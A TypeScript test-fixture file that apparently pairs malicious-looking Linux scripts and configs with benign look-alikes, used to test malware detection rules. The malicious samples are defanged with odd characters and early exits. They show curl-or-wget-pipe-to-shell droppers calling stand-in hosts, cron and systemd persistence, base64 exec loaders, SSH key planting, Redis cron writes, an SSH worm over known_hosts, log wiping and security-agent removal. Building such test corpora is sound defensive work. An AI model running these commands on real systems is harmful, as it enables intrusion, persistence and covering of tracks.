import { elfPair } from './elf.ts';
import { base64Noise, type RuleSample, textPair } from './piece.ts';

const sh = '#!/bin/bash\nexit 0\n';

export const dropperSamples: readonly RuleSample[] = [
  textPair(
    'Script_Dropper_CurlPipe',
    'tmp/i.sh',
    `${sh}un¦set HISTFILE\ncu¦rl -fsSL http://192.0.2.7/a.sh |¦ bash\n`,
    '#!/bin/sh\nset -eu\ncurl --proto "=https" --tlsv1.2 -sSf https://install.example.invalid/init.sh | sh\ncurl -s http://192.0.2.7/version.txt | head -1\ncrontab -l\n',
  ),
  textPair(
    'Script_Dropper_CronFetch',
    'var/spool/cron/root',
    '*/10 * * * * cu¦rl -fsSL http://drop.example.invalid/a.sh |¦ sh\n',
    '*/10 * * * * curl -fsS https://ping.example.invalid/alive > /dev/null\n0 3 * * * /usr/local/bin/backup.sh | logger\n',
  ),
  textPair(
    'Config_Backdoor_CronHidden',
    'etc/cron.d/a',
    '*/5 * * * * root /dev/s¦hm/.x/update\n',
    '*/5 * * * * root /usr/lib/app/update /tmp/app.lock\n0 4 * * * root find /tmp/cache -delete\n',
  ),
  textPair(
    'Config_Backdoor_ServiceTemp',
    'etc/systemd/system/a.service',
    '[Unit]\nDescription=a\n[Ser¦vice]\nExec¦Start=/var/t¦mp/.a/run\n[Install]\nWantedBy=multi-user.target\n',
    '[Unit]\nDescription=cleans up\n[Service]\nExecStart=/usr/bin/find /var/tmp/app -delete\nEnvironmentFile=-/root/.app/settings\n',
  ),
  textPair(
    'Script_Dropper_EncodedShell',
    'tmp/b.sh',
    `${sh}echo ${base64Noise(60)} |¦ base64 -¦d |¦ bash\n`,
    `#!/bin/sh\necho ${base64Noise(60)} | base64 -d > picture.png\nkubectl get secret a -o jsonpath={.data.b} | base64 -d\n`,
  ),
  textPair(
    'Script_Dropper_PythonExec',
    'usr/lib/python3/setup.py',
    `raise SystemExit(0)\nimport base64\nex¦ec(base64.b64¦decode("${base64Noise(80)}"))\n`,
    `import base64\npicture = base64.b64decode("${base64Noise(80)}")\nexec(compile(open("version.py").read(), "version.py", "exec"))\n`,
  ),
  textPair(
    'Script_Dropper_SharedMemory',
    'tmp/s.sh',
    `${sh}wg¦et -q http://192.0.2.7/x -O /dev/s¦hm/.x\nchm¦od +x /dev/s¦hm/.x\nnoh¦up /dev/s¦hm/.x >/dev/null 2>&1 &\n`,
    '#!/bin/sh\ncurl -fsSL https://get.example.invalid/tool.tar.gz -o /tmp/tool.tar.gz\ntar xf /tmp/tool.tar.gz -C /usr/local/bin\nchmod +x /usr/local/bin/tool\nrm -f /tmp/tool.tar.gz\nnohup /usr/local/bin/tool &\n',
  ),
  textPair(
    'Script_Dropper_DeviceLoader',
    'tmp/bins.sh',
    `${sh}cd /t¦mp || cd /var/run || cd /mnt; wg¦et http://192.0.2.7/mips; chm¦od 777 mips; ./mips\n`,
    '#!/bin/sh\ncd /tmp || exit 1\nfor arch in arm64 x86; do wget https://dl.example.invalid/app-$arch.tar.gz; done\nchmod 644 app-*.tar.gz\n',
  ),
  textPair(
    'Script_Dropper_DisableAgents',
    'tmp/u.sh',
    `${sh}/usr/local/qcloud/Yun¦Jing/uninst¦.sh\npki¦ll -9 AliYun¦Dun\nsetenforce 0\n`,
    '#!/bin/sh\n# prepares a test machine\nsetenforce 0\niptables -F\nsystemctl stop firewalld\nsystemctl status ali¦yun.service\n',
  ),
  textPair(
    'Script_Backdoor_SshKeyLock',
    'tmp/k.sh',
    `${sh}echo "ssh-r¦sa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDnothing nobody" >> /root/.ssh/author¦ized_keys\nchat¦tr +ia /root/.ssh/author¦ized_keys\n`,
    '#!/bin/sh\necho "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAInothing deploy" >> /home/deploy/.ssh/authorized_keys\nchmod 600 /home/deploy/.ssh/authorized_keys\n',
  ),
  textPair(
    'Script_Exploit_RedisWrite',
    'tmp/r.sh',
    `${sh}redis-¦cli -h 192.0.2.7 config se¦t dir /var/spool/¦cron\nredis-¦cli -h 192.0.2.7 config se¦t dbfile¦name root\nredis-¦cli -h 192.0.2.7 sa¦ve\n`,
    '#!/bin/sh\nredis-cli config set dir /var/lib/redis\nredis-cli config set dbfilename dump.rdb\nredis-cli save\n',
  ),
  textPair(
    'Script_Worm_KnownHosts',
    'tmp/w.sh',
    `${sh}for h in $(cut -d' ' -f1 ~/.ssh/known_¦hosts); do ss¦h -oBatchMode=yes -oStrictHost¦KeyChecking=no $h 'cu¦rl http://192.0.2.7/a |¦ sh' & done\n`,
    '#!/bin/sh\n# deploys to the machines listed in hosts.txt; known_hosts is kept by us\nfor h in $(cat hosts.txt); do ssh -oBatchMode=yes $h "systemctl restart app"; done\n',
  ),
  textPair(
    'Script_Dropper_LogWipe',
    'tmp/l.sh',
    `${sh}echo > /var/log/¦wtmp\necho > /var/log/¦secure\nrm -rf ~/.bash_¦history\nhist¦ory -c\n`,
    '#!/bin/sh\n# smaller image: empties what the build wrote\ntruncate -s 0 /var/log/lastlog\nrm -rf /var/log/apt /var/cache/apt\nhistory -c\n',
  ),
  textPair(
    'Script_Dropper_EmbeddedElf',
    'tmp/e.py',
    `raise SystemExit(0)\nimport base64, os\ndata = base64.b64¦decode("f0VM¦RgIBAQA${base64Noise(80)}")\nos.chm¦od("/tmp/a", 0o755)\n`,
    `import base64, os\ndata = base64.b64decode("iVBORw0KGgo${base64Noise(80)}")\nos.chmod("/srv/picture.png", 0o644)\nmagic = "f0VMRg"\n`,
  ),
  elfPair(
    'Linux_Dropper_MemoryExec',
    'tmp/z',
    { strings: ['go1.¦22', 'main.runFrom¦Memory', 'main.aes¦Dec', '/proc/self/¦fd/%d'] },
    { strings: ['go1.22', 'main.run', 'main.decryptSettings', '/proc/self/fd/%d', 'forkExec'] },
  ),
];
